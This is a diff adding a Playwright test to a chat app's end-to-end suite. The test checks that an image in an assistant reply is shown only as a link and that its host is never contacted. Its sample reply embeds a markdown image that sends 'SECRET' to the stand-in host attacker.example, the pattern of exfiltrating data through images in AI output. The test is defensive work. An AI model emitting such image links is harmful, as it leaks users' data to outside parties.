@@ -209,3 +209,40 @@ test.describe.serial("chat with the assistant", () => {
     await expect(page.getByRole("heading", { name: "Sign in to Parley" })).toBeVisible();
   });
 });
+
+test.describe("images in replies", () => {
+  test("an image in a reply is shown as a link and nothing is requested from its host", async ({ browser }) => {
+    const context = await browser.newContext({ viewport: { width: 1280, height: 800 } });
+    const page = await context.newPage();
+    // Every request the browser starts for the image host is recorded, then refused before it
+    // leaves the machine.
+    const toImageHost: string[] = [];
+    context.on("request", (request) => {
+      if (new URL(request.url()).hostname === "attacker.example") toImageHost.push(request.url());
+    });
+    await context.route(/^https?:\/\/attacker\.example\//, (route) => route.abort("blockedbyclient"));
+    try {
+      await signUp(page, newUser("Ida"));
+      await enqueue({ text: "Here is your chart: ![chart](https://attacker.example/c.png?d=SECRET) — enjoy." });
+      await page.getByRole("button", { name: "New chat" }).click();
+      await composer(page).fill("Draw me a chart");
+      await composer(page).press("Enter");
+      const reply = lastAssistant(page);
+      await expect(reply).toContainText("enjoy", { timeout: 30_000 });
+      await expect(reply).not.toHaveAttribute("aria-busy", "true");
+      expect(toImageHost).toEqual([]);
+      await expect(reply.locator("img")).toHaveCount(0);
+      const link = reply.getByRole("link", { name: /chart/ });
+      await expect(link).toHaveAttribute("href", "https://attacker.example/c.png?d=SECRET");
+      await expect(link).toContainText("https://attacker.example/c.png?d=SECRET");
+      // The same reply rendered from the fetched history.
+      await page.reload();
+      await expect(lastAssistant(page).getByRole("link", { name: /chart/ })).toBeVisible();
+      await expect(page.locator("img, link[rel=preload], link[rel=prefetch]")).toHaveCount(0);
+      await expectAccessible(page);
+      expect(toImageHost).toEqual([]);
+    } finally {
+      await context.close();
+    }
+  });
+});
